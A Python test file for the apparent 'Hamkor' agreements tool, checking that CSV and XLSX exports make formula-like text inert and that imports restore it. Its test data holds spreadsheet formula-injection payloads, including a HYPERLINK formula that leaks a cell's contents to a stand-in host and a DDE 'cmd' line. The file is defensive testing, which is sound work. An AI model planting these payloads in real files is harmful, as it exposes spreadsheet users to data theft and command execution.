"""Issue 16.1: no text Hamkor writes to CSV or XLSX is run as a formula by a spreadsheet
program, numbers stay numbers, and an import of our own export gives back the text."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path
from typing import Any

from tests.conftest import fresh_sqlite, truncate_pg
from tests.helpers import hamkor, ok, seed_people
from workflow.spreadsheet import FORMULA_STARTS, inert, restore

#: The characters that start a formula, and a quote in front of them.
STARTS = sorted(FORMULA_STARTS) + ["'=", "''+", "'-", "'"]


def hostile_texts(seed: int, count: int) -> list[str]:
    """Text beginning like a formula (or like a quoted one), generated afresh."""
    rng = random.Random(seed)
    bodies = ['HYPERLINK("http://x.example/?leak="&A1,"click")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd",
              "1+2", "@A1", "2024-01-01", "Kyoto University", "=1", ""]
    out = []
    for i in range(count):
        start = STARTS[i % len(STARTS)]
        out.append(start + rng.choice(bodies) + f" {rng.randrange(10**6)}")
    return out


def test_inert_and_restore_are_exact_inverses_on_generated_text() -> None:
    rng = random.Random(16)
    alphabet = "=+-@\t\r'ab 1;\"|"
    for _ in range(20000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 6)))
        cell = inert(text)
        assert restore(cell) == text
        assert cell[:1] not in FORMULA_STARTS  # nothing a spreadsheet would evaluate
        if text[:1] not in FORMULA_STARTS and not text.startswith("'"):
            assert cell == text  # ordinary text is written as it is
    # What a user typed is kept: a quote in front of ordinary text is theirs.
    assert restore("'Hello") == "'Hello" and restore("'") == "'" and inert("'Hello") == "'Hello"


def agreements_json(titles: list[str], partners: list[str], notes: list[str]) -> str:
    rows = []
    for i, (title, partner, note) in enumerate(zip(titles, partners, notes, strict=True)):
        rows.append({
            "title": title, "type": "exchange", "state": "active",
            "partners": ["Home University", partner], "countries": ["UZ", "JP"],
            "signed_on": ["2023-01-10", "2023-01-10"], "owner": "olga@uni.uz",
            "starts_on": "2023-02-01", "expires_on": "2030-01-31", "department": title[:80],
            "notes": note, "notice_days": 30 + i, "term": 1,
        })
    return json.dumps(rows)


def shown(db: str) -> list[dict[str, Any]]:
    refs = [a["ref"] for a in ok(hamkor(db, "agreement", "list", "--json")).json()]
    out = []
    for ref in refs:
        a = ok(hamkor(db, "agreement", "show", ref, "--json")).json()
        out.append({k: a[k] for k in ("title", "department", "notes", "notice_days")}
                   | {"partners": json.dumps(a["parties"], sort_keys=True, default=str)})
    return out


def test_export_writes_formula_text_inert_and_import_gives_it_back(
        db_url: str, tmp_path: Path, sqlite_template: Path) -> None:
    titles = hostile_texts(1, 12)
    partners = [t.replace(";", ",") for t in hostile_texts(2, 12)]
    notes = hostile_texts(3, 12)
    seed_people(db_url)
    source = tmp_path / "hostile.json"
    source.write_text(agreements_json(titles, partners, notes), encoding="utf-8")
    ok(hamkor(db_url, "import", str(source), "--by", "olga@uni.uz"))
    before = shown(db_url)
    stored_titles = {a["title"] for a in before}
    assert {t.strip() for t in titles} <= stored_titles

    out = tmp_path / "export.csv"
    ok(hamkor(db_url, "export", str(out)))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in FORMULA_STARTS, (column, cell)  # nothing runs
        assert row["title"] == inert(row["title"].removeprefix("'")) or row["title"] in stored_titles
        assert row["notice_days"].isdigit()  # numbers stay numbers, without a quote
    assert {restore(r["title"]) for r in rows} == stored_titles

    # The round trip: into an empty database, the same text comes back.
    if db_url.startswith("sqlite"):
        (tmp_path / "again").mkdir()
        fresh = fresh_sqlite(sqlite_template, tmp_path / "again")
    else:
        truncate_pg(db_url)
        fresh = db_url
    seed_people(fresh)
    ok(hamkor(fresh, "import", str(out), "--by", "olga@uni.uz"))
    assert sorted(shown(fresh), key=str) == sorted(before, key=str)


def test_a_value_written_by_the_export_code_is_inert_for_every_start(tmp_path: Path) -> None:
    """Tabs and carriage returns cannot be stored by the forms or the import (they trim), so
    the CSV writer is given them directly: every one comes out behind a quote, and back."""
    from workflow.transfer import EXPORT_COLUMNS, decode_csv, write_export

    texts = hostile_texts(4, 40)
    record = {c: None for c in EXPORT_COLUMNS}
    records = [record | {"ref": f"AGR-2024-{i + 1:04d}", "title": t, "notes": t, "term": -i,
                         "partners": [t.replace(";", ","), "Home University"]}
               for i, t in enumerate(texts)]
    path = tmp_path / "out.csv"
    write_export(path, records)
    text = path.read_bytes().decode("utf-8")
    for row in csv.DictReader(io.StringIO(text, newline="")):
        assert all(cell[:1] not in FORMULA_STARTS for c, cell in row.items() if c != "term"), row
    sheet = decode_csv(text)
    assert [r.values["title"] for r in sheet.records] == texts
    assert [r.values["notes"] for r in sheet.records] == texts
    # A number (even a negative one) is written as a number, not as quoted text.
    assert [r.values["term"] for r in sheet.records] == [str(-i) for i in range(len(texts))]


def test_the_report_csv_and_xlsx_hold_formula_text_as_inert_text(db_url: str,
                                                                 tmp_path: Path) -> None:
    from openpyxl import load_workbook

    titles = hostile_texts(5, 8)
    partners = [t.replace(";", ",") for t in hostile_texts(6, 8)]
    seed_people(db_url)
    source = tmp_path / "hostile.json"
    source.write_text(agreements_json(titles, partners, titles), encoding="utf-8")
    ok(hamkor(db_url, "import", str(source), "--by", "olga@uni.uz"))
    stored = {a["title"] for a in shown(db_url)}

    xlsx = tmp_path / "r.xlsx"
    ok(hamkor(db_url, "report", "annual", "2024", "--format", "xlsx", "-o", str(xlsx)))
    wb = load_workbook(xlsx)  # not read-only: formulas would show as data_type "f"
    seen = set()
    numbers = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_STARTS, (ws.title, cell.value)
                    seen.add(cell.value)
                elif isinstance(cell.value, int):
                    numbers += 1
    assert {inert(t) for t in stored} <= seen
    assert numbers > 0  # counts are still numbers

    out = tmp_path / "r.csv"
    ok(hamkor(db_url, "report", "annual", "2024", "--format", "csv", "-o", str(out)))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row)
    assert {inert(t) for t in stored} <= {cell for row in rows for cell in row}


def test_the_activity_export_writes_formula_text_inert_and_reads_it_back(tmp_path: Path) -> None:
    from workflow.activity_rules import FIELDS
    from workflow.activity_transfer import read_file, write_export

    # (Not CR: this writer ends lines with LF alone and leaves a CR in a cell unquoted;
    # the forms and the import trim it away, so no stored value holds one.)
    texts = [t for t in hostile_texts(7, 24) if "\r" not in t]
    rows = [{f: None for f in FIELDS} | {"title": t, "notes": t} for t in texts]
    path = tmp_path / "activities.csv"
    write_export(path, rows)
    for row in csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")):
        assert all((cell or "")[:1] not in FORMULA_STARTS for cell in row.values()), row
    sheet = read_file(path)
    assert [r.values.get("title") for r in sheet.records] == texts
